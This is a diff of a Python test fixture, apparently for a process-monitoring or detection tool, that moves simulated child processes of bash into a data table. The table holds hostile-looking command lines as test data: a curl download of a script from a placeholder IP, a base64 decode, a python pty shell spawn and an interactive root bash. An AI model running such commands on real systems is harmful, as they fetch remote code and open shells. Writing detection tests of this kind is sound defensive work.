@@ -44,6 +44,17 @@ def _child(process_id: int, pid: int, fork_s: int, exec_s: int, **exec_fields: A
 
 
 CURL = {"comm": "curl", "exe": "/usr/bin/curl", "uid": 1000, "cwd": "/tmp"}
+# The children of bash: process_id (pid is a tenth of it), fork and exec second, image,
+# uid, cwd, argv, exec result.
+CHILDREN = (
+    (200, 1, 2, "/usr/bin/curl", 1000, "/tmp",
+     ["curl", "-o", "/tmp/x.sh", "http://203.0.113.9/x.sh"], 0),
+    (300, 3, 4, "/bin/sh", 0, "/root", ["sh", "-c", "echo Y3VybA== | base64 -d"], 0),
+    (400, 5, 6, "/usr/bin/python3", 1000, "/home/u",
+     ["python3", "-c", "import pty;pty.spawn('/bin/sh')"], 0),
+    (500, 7, 8, "/usr/bin/nmap", 0, "/root", ["nmap"], -2),  # the exec failed
+    (700, 18, 19, "/usr/bin/bash", 0, "/root", ["bash", "-i"], 0),
+)  # fmt: skip
 
 
 def rows() -> list[dict[str, Any]]:
@@ -51,38 +62,12 @@ def rows() -> list[dict[str, Any]]:
         {**BASH, "time": at(0), "event": "process_snapshot", "argv": ["-bash"]},
         {**NGINX, "time": at(0), "event": "process_snapshot", "argv": ["nginx"]},
     ]
-    out += _child(
-        200, 20, 1, 2, argv=["curl", "-o", "/tmp/x.sh", "http://203.0.113.9/x.sh"], **CURL
-    )
-    out += _child(
-        300,
-        30,
-        3,
-        4,
-        comm="sh",
-        exe="/bin/sh",
-        uid=0,
-        cwd="/root",
-        argv=["sh", "-c", "echo Y3VybA== | base64 -d"],
-    )
-    out += _child(
-        400,
-        40,
-        5,
-        6,
-        comm="python3",
-        exe="/usr/bin/python3",
-        uid=1000,
-        cwd="/home/u",
-        argv=["python3", "-c", "import pty;pty.spawn('/bin/sh')"],
-    )
-    out += _child(
-        500, 50, 7, 8, comm="bash", exe="/usr/bin/nmap", uid=0, cwd="/root", argv=["nmap"]
-    )
-    out[-1]["retval"] = -2  # the exec failed
-    out += _child(
-        700, 70, 18, 19, comm="bash", exe="/usr/bin/bash", uid=0, cwd="/root", argv=["bash", "-i"]
-    )
+    for process_id, fork_s, exec_s, image, uid, cwd, argv, retval in CHILDREN:
+        fields = {"comm": Path(image).name, "exe": image, "uid": uid, "cwd": cwd}
+        if image == "/usr/bin/nmap":
+            fields["comm"] = "bash"  # a failed exec keeps the old comm
+        out += _child(process_id, process_id // 10, fork_s, exec_s, argv=argv, **fields)
+        out[-1]["retval"] = retval
     curl = {**_proc(200, 20, 100, 10), **CURL}
     python = {**_proc(400, 40, 100, 10), "comm": "python3", "exe": "/usr/bin/python3"}
     sh = {**_proc(300, 30, 100, 10), "comm": "sh", "exe": "/bin/sh"}
